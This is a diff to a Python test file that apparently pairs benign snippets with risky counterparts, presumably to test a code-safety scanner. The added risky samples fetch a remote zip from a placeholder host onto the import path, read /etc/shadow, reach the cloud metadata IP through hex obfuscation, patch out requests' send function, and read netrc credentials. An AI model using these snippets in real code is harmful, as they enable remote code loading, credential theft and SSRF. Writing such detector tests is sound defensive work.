@@ -181,12 +181,38 @@ PAIRS = [
     (
         "modules of a folder, and of an archive from elsewhere",
         ('import sys\nsys.path.insert(0, "lib.zip")\nimport m', "L1"),
-        'import sys, urllib.request as u\nu.urlretrieve("https://x.example.net/m", "m.zip")\nsys.path.insert(0, "m.zip")',
+        'import sys, urllib.request as u\nu.urlretrieve("https://x.example.net/m", "m.zip")\n'
+        'sys.path.insert(0, "m.zip")',
     ),
     (
         "memory that is shared, and that is run",
         ("import mmap\nmmap.mmap(-1, 4096)", "L1"),
         "import mmap\nmmap.mmap(-1, 4096, prot=7)",
+    ),
+    (
+        "a function that is handed on with a harmless path, and with that of keys",
+        (
+            "from concurrent.futures import ThreadPoolExecutor as P\ndef read(p): return open(p).read()\n"
+            'P().submit(read, "a.txt")',
+            "L1",
+        ),
+        "from concurrent.futures import ThreadPoolExecutor as P\ndef read(p): return open(p).read()\n"
+        'P().submit(read, "/etc/shadow")',
+    ),
+    (
+        "a host that is formatted, and one that is the metadata service",
+        ('import requests\nrequests.get(f"http://{192:d}.example.com/")', "L2"),
+        'import requests\nrequests.get("http://0x" + "".join(f"{n:02x}" for n in (169, 254, 169, 254)) + "/")',
+    ),
+    (
+        "a setting of a library, and its function",
+        ("import requests\nrequests.adapters.DEFAULT_RETRIES = 3", "L1"),
+        "import requests\ndef send(*a): return None\nrequests.Session.send = send",
+    ),
+    (
+        "a list of hosts, and that with the passwords",
+        ('print(open("netrc.txt").read())', "L1"),
+        "import netrc\nprint(netrc.netrc().hosts)",
     ),
 ]
 
